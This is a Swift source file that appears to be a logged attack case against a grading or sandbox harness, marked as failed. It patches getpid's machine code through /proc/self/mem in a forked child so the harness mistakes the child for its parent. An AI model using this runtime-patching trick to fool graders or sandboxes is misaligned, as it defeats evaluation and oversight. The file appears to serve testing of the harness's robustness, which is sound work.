// Attack: Exchanges the code of `getpid` in a child, so that the stage takes it for its parent.
// Verdict: failed
// Uses: RawCalls.swift
// swift-format-ignore-file
import Glibc

/// Writes over code through the file of this process's memory.
private func setOwnID(_ id: Int32) -> Bool {
    let file = open("/proc/self/mem", O_RDWR)
    guard file >= 0, let place = RawCalls.address(of: "getpid") else { return false }
    let number = UInt32(bitPattern: id)
    #if arch(x86_64)
        // mov eax, number; ret
        var code: [UInt8] = [0xB8] + (0..<4).map { UInt8(truncatingIfNeeded: number >> ($0 * 8)) }
        code.append(0xC3)
    #else
        // movz w0, low; movk w0, high, lsl 16; ret
        let words = [
            0x5280_0000 | (number & 0xFFFF) << 5, 0x72A0_0000 | (number >> 16) << 5, 0xD65F_03C0,
        ]
        let code = words.flatMap { word in
            (0..<4).map { UInt8(truncatingIfNeeded: word >> ($0 * 8)) }
        }
    #endif
    return pwrite(file, code, code.count, Int(bitPattern: place)) == code.count
}

public func square(_ number: Int) throws -> Int {
    let parent = getpid()
    let child = fork()
    if child == 0 {
        guard setOwnID(parent), getpid() == parent else { _exit(1) }
        return number * number
    }
    waitpid(child, nil, 0)
    _exit(0)
}
